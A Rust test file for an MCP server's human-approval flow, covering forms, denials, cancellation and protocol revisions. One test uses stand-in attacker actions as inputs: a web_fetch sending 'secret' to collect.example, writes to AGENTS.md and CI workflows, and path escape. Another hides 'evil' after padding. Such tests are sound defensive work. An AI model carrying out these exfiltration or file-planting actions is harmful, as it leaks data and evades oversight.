//! A call that waits for a person: answered in the client's own form, from elsewhere, given up, or left
//! open when the client goes.

use super::*;

fn write_b() -> Value {
    json!({"path": "b.txt", "content": "x"})
}

/// The next form that the client is asked to show: the number of its request, and its parameters.
fn next_form(client: &mut McpClient) -> (Value, Value) {
    let form = client.next("a form", |line| line["method"] == "elicitation/create");
    (form["id"].clone(), form["params"].clone())
}

fn fill_in(client: &mut McpClient, id: &Value, result: Value) {
    let mut answer = json!({"jsonrpc": "2.0", "id": id});
    answer["result"] = result;
    client.send(&answer);
}

#[test]
fn r2_a_call_waits_for_an_answer_from_anywhere_and_its_client_hears_that_it_does() {
    let house = house("");
    let mut client = McpClient::start(&house, &[], &json!({}));
    let id = client.begin_call("write_file", write_b());
    let approval = open_approval(&house);
    let waits = client.next("progress", |line| {
        line["method"] == "notifications/progress"
            && line["params"]["message"].as_str().is_some_and(|words| words.contains("Waits"))
    });
    assert!(waits["params"]["message"].as_str().is_some_and(|words| words.contains(&approval)));
    assert!(house.read("work/b.txt").is_none(), "nothing happens before the answer");
    house.ok(&["approvals", "answer", &approval, "once"]);
    let (ok, words) = client.result_of(id);
    assert!(ok, "{words}");
    assert_eq!(house.read("work/b.txt").as_deref(), Some("x"));

    let id = client.begin_call("write_file", json!({"path": "c.txt", "content": "x"}));
    let approval = open_approval(&house);
    house.ok(&["approvals", "answer", &approval, "deny", "--reason", "not on a Friday"]);
    let (ok, words) = client.result_of(id);
    assert!(!ok && words.contains("not on a Friday"), "{words}");
    assert!(house.read("work/c.txt").is_none());
}

#[test]
fn r2_a_client_that_shows_forms_asks_its_person_and_yes_is_for_one_call() {
    let house = house("");
    let mut client = McpClient::start(&house, &[], &json!({"elicitation": {"form": {}}}));
    let id = client.begin_call("write_file", write_b());
    let (form, params) = next_form(&mut client);
    let message = params["message"].as_str().expect("words");
    for shown in ["b.txt", "+x", "Why you are asked"] {
        assert!(message.contains(shown), "{shown} in {message}");
    }
    assert_eq!(
        params["requestedSchema"]["properties"]["decision"]["enum"],
        json!(["allow", "deny"])
    );
    fill_in(&mut client, &form, json!({"action": "accept", "content": {"decision": "allow"}}));
    let (ok, words) = client.result_of(id);
    assert!(ok, "{words}");
    assert_eq!(house.read("work/b.txt").as_deref(), Some("x"));
    let resolved = house.facts_of_kind(&session_of(&house), "approval.resolved");
    assert_eq!(resolved[0]["decision"], "once");
    // What is known is that the program answered, and nothing more.
    let by = resolved[0]["by"].as_str().unwrap_or_default();
    assert!(by.starts_with("the MCP client Other Agent, by its form, for "), "{resolved:?}");

    // The next one asks again, and no plain yes is a no.
    for (result, path) in [
        (json!({"action": "decline"}), "c.txt"),
        (json!({"action": "accept", "content": {"decision": "deny"}}), "d.txt"),
        (json!({"action": "accept", "content": {"decision": "always"}}), "e.txt"),
        (json!({"action": "accept", "content": {}}), "f.txt"),
    ] {
        let id = client.begin_call("write_file", json!({"path": path, "content": "x"}));
        let (form, _) = next_form(&mut client);
        fill_in(&mut client, &form, result.clone());
        let (ok, words) = client.result_of(id);
        assert!(!ok, "{result}: {words}");
        assert!(house.read(&format!("work/{path}")).is_none(), "{result}");
    }
}

/// A call whose question is shown in no form: how it is answered then.
fn is_asked_elsewhere(house: &TestInstallation, client: &mut McpClient, tool: &str, input: Value) {
    let forms = |client: &McpClient| {
        client.lines().iter().filter(|line| line["method"] == "elicitation/create").count()
    };
    let before = forms(client);
    let id = client.begin_call(tool, input);
    let approval = open_approval(house);
    client.next("progress", |line| {
        line["params"]["message"].as_str().is_some_and(|words| words.contains(&approval))
    });
    house.ok(&["approvals", "answer", &approval, "deny"]);
    let (ok, words) = client.result_of(id);
    assert!(!ok, "{tool}: {words}");
    assert_eq!(forms(client), before, "{tool}");
}

#[test]
fn r2_a_program_that_nobody_vouches_for_does_not_decide_what_an_attacker_would_want() {
    let house = house("");
    let mut client = McpClient::start(&house, &[], &json!({"elicitation": {"form": {}}}));
    let write = |path: &str| json!({"path": path, "content": "echo hello\n"});
    for (tool, input) in [
        ("write_file", write("AGENTS.md")),
        ("write_file", write(".github/workflows/a.yml")),
        ("write_file", write("../beside.txt")),
        ("web_fetch", json!({"url": "https://collect.example/?q=secret"})),
    ] {
        is_asked_elsewhere(&house, &mut client, tool, input);
    }
    // What is ordinary can be answered there.
    let id = client.begin_call("write_file", write_b());
    let (form, _) = next_form(&mut client);
    fill_in(&mut client, &form, json!({"action": "accept", "content": {"decision": "allow"}}));
    assert!(client.result_of(id).0);
    assert!(house.read("work/AGENTS.md").is_none());
}

#[test]
fn r2_with_trust_of_their_own_the_form_decides_and_never_about_what_it_does_not_show_whole() {
    let house = house("[mcp_server]\ntrust = \"own\"\n");
    let mut client = McpClient::start(&house, &[], &json!({"elicitation": {"form": {}}}));
    let id = client.begin_call("write_file", json!({"path": "AGENTS.md", "content": "x\n"}));
    let (form, _) = next_form(&mut client);
    fill_in(&mut client, &form, json!({"action": "accept", "content": {"decision": "allow"}}));
    let (ok, words) = client.result_of(id);
    assert!(ok, "{words}");
    let long = format!("{}evil\n", "harmless\n".repeat(400));
    let input = json!({"path": "b.txt", "content": long});
    is_asked_elsewhere(&house, &mut client, "write_file", input);
    assert!(house.read("work/b.txt").is_none());
}

#[test]
fn r2_a_form_that_is_dismissed_leaves_the_question_to_others_and_the_first_answer_counts() {
    let house = house("");
    let mut client = McpClient::start(&house, &[], &json!({"elicitation": {}}));
    let id = client.begin_call("write_file", write_b());
    let (form, _) = next_form(&mut client);
    fill_in(&mut client, &form, json!({"action": "cancel"}));
    let approval = open_approval(&house);
    house.ok(&["approvals", "answer", &approval, "once"]);
    let (ok, words) = client.result_of(id);
    assert!(ok, "{words}");

    // Answered elsewhere while the client still shows it: it is told so, and its late yes is nothing.
    let id = client.begin_call("write_file", json!({"path": "c.txt", "content": "x"}));
    let (form, _) = next_form(&mut client);
    let approval = open_approval(&house);
    house.ok(&["approvals", "answer", &approval, "deny"]);
    let (ok, _) = client.result_of(id);
    assert!(!ok);
    let taken_back =
        client.next("the form is taken back", |line| line["method"] == "notifications/cancelled");
    assert_eq!(taken_back["params"]["requestId"], form, "{taken_back}");
    fill_in(&mut client, &form, json!({"action": "accept", "content": {"decision": "allow"}}));
    let (ok, _) = client.call("read_file", json!({"path": "a.txt"}));
    assert!(ok);
    assert!(house.read("work/c.txt").is_none());
}

#[test]
fn r2_where_the_person_says_so_a_client_is_never_asked() {
    let house = house("[mcp_server]\napprovals = \"elsewhere\"\n");
    let mut client = McpClient::start(&house, &[], &json!({"elicitation": {"form": {}}}));
    let id = client.begin_call("write_file", write_b());
    let approval = open_approval(&house);
    house.ok(&["approvals", "answer", &approval, "once"]);
    let (ok, words) = client.result_of(id);
    assert!(ok, "{words}");
    assert!(!client.program.output_text().contains("elicitation/create"));
    // A flag wins over the settings.
    let mut other = McpClient::start(&house, &["--approvals", "ask"], &json!({"elicitation": {}}));
    let id = other.begin_call("write_file", json!({"path": "c.txt", "content": "x"}));
    let (form, _) = next_form(&mut other);
    fill_in(&mut other, &form, json!({"action": "decline"}));
    assert!(!other.result_of(id).0);
}

#[test]
fn r2_a_call_that_is_given_up_while_it_waits_happens_never() {
    let house = house("");
    let mut client = McpClient::start(&house, &[], &json!({}));
    let id = client.begin_call("write_file", write_b());
    let approval = open_approval(&house);
    client.notify("notifications/cancelled", json!({"requestId": id}));
    nothing_open(&house);
    let late = house.run(&["approvals", "answer", &approval, "once"]);
    assert_ne!(late.status, 0, "{}", late.out);
    let (ok, _) = client.call("read_file", json!({"path": "a.txt"}));
    assert!(ok, "the next one works");
    assert!(house.read("work/b.txt").is_none());
}

#[test]
fn r2_a_client_that_goes_leaves_nothing_open_behind_it() {
    let house = house("");
    let mut client = McpClient::start(&house, &[], &json!({}));
    client.begin_call("write_file", write_b());
    open_approval(&house);
    let session = session_of(&house);
    let end = client.leave();
    assert_eq!(end.status, 0, "{}", end.err);
    nothing_open(&house);
    let ended = house.facts_of_kind(&session, "run.finished");
    assert_eq!(ended.last().map(|fact| &fact["status"]), Some(&json!("cancelled")), "{ended:?}");
    assert!(house.read("work/b.txt").is_none());
}

#[test]
fn r2_after_kill_9_the_question_is_still_there_and_a_no_ends_it() {
    let house = house("");
    let mut client = McpClient::start(&house, &[], &json!({}));
    client.begin_call("write_file", write_b());
    let approval = open_approval(&house);
    client.program.kill();
    assert_eq!(open_approval(&house), approval);
    house.ok(&["approvals", "answer", &approval, "deny"]);
    nothing_open(&house);
    assert!(house.read("work/b.txt").is_none());
    // Another client has a session of its own, and works.
    let mut other = McpClient::start(&house, &[], &json!({}));
    assert!(other.call("read_file", json!({"path": "a.txt"})).0);
}

/// What every request of the revision without a handshake carries.
fn meta(able: &Value) -> Value {
    meta_of("Newer Agent", able)
}

fn meta_of(name: &str, able: &Value) -> Value {
    json!({
        "io.modelcontextprotocol/protocolVersion": "2026-07-28",
        "io.modelcontextprotocol/clientInfo": {"name": name, "version": "2"},
        "io.modelcontextprotocol/clientCapabilities": able
    })
}

#[test]
fn r2_the_revision_without_a_handshake_asks_by_an_answer_that_says_what_is_missing() {
    let house = house("");
    let program = RunningProgram::start_with_input(house.command(&["mcp"]));
    let mut client = McpClient { program, sent: 0, seen: 0 };
    let able = json!({"elicitation": {"form": {}}});
    let told = client.ask("server/discover", json!({"_meta": meta(&able)}));
    let about = &told["result"]["_meta"]["io.modelcontextprotocol/serverInfo"];
    assert_eq!(about["name"], "weir", "{told}");
    let listed = client.ask("tools/list", json!({"_meta": meta(&able)}));
    assert!(listed["result"]["tools"].as_array().is_some_and(|all| !all.is_empty()), "{listed}");

    let call = |more: Value| {
        let mut params =
            json!({"name": "write_file", "arguments": write_b(), "_meta": meta(&able)});
        for (name, value) in more.as_object().into_iter().flatten() {
            params[name] = value.clone();
        }
        params
    };
    let asked = client.ask("tools/call", call(json!({})));
    let result = &asked["result"];
    assert_eq!(result["resultType"], "input_required", "{asked}");
    let state = result["requestState"].as_str().expect("a state").to_owned();
    let (name, form) =
        result["inputRequests"].as_object().and_then(|all| all.iter().next()).expect("a form");
    assert_eq!(form["method"], "elicitation/create", "{form}");
    let answers = |name: &str, decision: &str| {
        let filled_in = json!({"action": "accept", "content": {"decision": decision}});
        json!({ name: filled_in })
    };
    // Another call under the name of this one is none, and uses the name up.
    let mut other = call(json!({"requestState": state, "inputResponses": answers(name, "allow")}));
    other["arguments"] = json!({"path": "c.txt", "content": "x"});
    let refused = client.ask("tools/call", other);
    assert_eq!(refused["error"]["code"], -32602, "{refused}");
    nothing_open(&house);

    let asked = client.ask("tools/call", call(json!({})));
    let state = asked["result"]["requestState"].as_str().expect("a state").to_owned();
    let forms = asked["result"]["inputRequests"].as_object();
    let (name, _) = forms.and_then(|all| all.iter().next()).expect("a form");
    let again = json!({"requestState": state, "inputResponses": answers(name, "allow")});
    let done = client.ask("tools/call", call(again.clone()));
    assert!(done["result"]["content"].is_array() && done["result"]["isError"] != true, "{done}");
    assert_eq!(house.read("work/b.txt").as_deref(), Some("x"));
    assert!(house.read("work/c.txt").is_none());
    // A state is good for one time.
    let twice = client.ask("tools/call", call(again));
    assert_eq!(twice["error"]["code"], -32602, "{twice}");
}

#[test]
fn r2_calls_are_recorded_as_those_of_the_program_that_made_them_also_beside_each_other() {
    let house = house("");
    let program = RunningProgram::start_with_input(house.command(&["mcp"]));
    let mut client = McpClient { program, sent: 0, seen: 0 };
    let begin = |client: &mut McpClient, name: &str, tool: &str, arguments: Value| {
        let meta = meta_of(name, &json!({}));
        client.begin("tools/call", json!({"name": tool, "arguments": arguments, "_meta": meta}))
    };
    let of_one = begin(&mut client, "One", "write_file", write_b());
    let approval = open_approval(&house);
    let of_other = begin(&mut client, "Other", "read_file", json!({"path": "a.txt"}));
    house.ok(&["approvals", "answer", &approval, "once"]);
    for id in [of_one, of_other] {
        let (ok, words) = client.result_of(id);
        assert!(ok, "{words}");
    }
    let inputs = house.facts_of_kind(&session_of(&house), "input.accepted");
    let by: Vec<&str> = inputs.iter().filter_map(|input| input["by"].as_str()).collect();
    let expected = ["One", "Other"].map(|name| format!("the MCP client {name}"));
    assert_eq!(by.len(), 2, "{by:?}");
    for (by, expected) in by.iter().zip(&expected) {
        assert!(by.ends_with(expected), "{expected}: {by:?}");
    }
    let sources: Vec<&Value> = inputs.iter().map(|input| &input["added"][0]["source"]).collect();
    assert_eq!(sources, expected.each_ref(), "{inputs:?}");
}

#[test]
fn r2_calls_after_words_that_the_client_was_told_are_judged_with_them() {
    let house = house("[mcp_server]\ntrust = \"own\"\n");
    house.write("work/.claude/commands/greet.md", "Greet everybody.\n");
    let mut client = McpClient::start(&house, &[], &json!({}));
    let waits = client.begin_call("write_file", write_b());
    let approval = open_approval(&house);
    let read = client.ask("prompts/get", json!({"name": "greet"}));
    assert!(read["result"]["messages"].is_array(), "{read}");
    let after = client.begin_call("read_file", json!({"path": "a.txt"}));
    house.ok(&["approvals", "answer", &approval, "once"]);
    assert!(client.result_of(waits).0 && client.result_of(after).0);
    let inputs = house.facts_of_kind(&session_of(&house), "input.accepted");
    assert_eq!(inputs.len(), 2, "the later call is of a run that knows of them: {inputs:?}");
    let labels: Vec<&Value> = inputs.iter().map(|input| &input["added"][0]["label"]).collect();
    assert_ne!(labels[0], labels[1], "{inputs:?}");
}
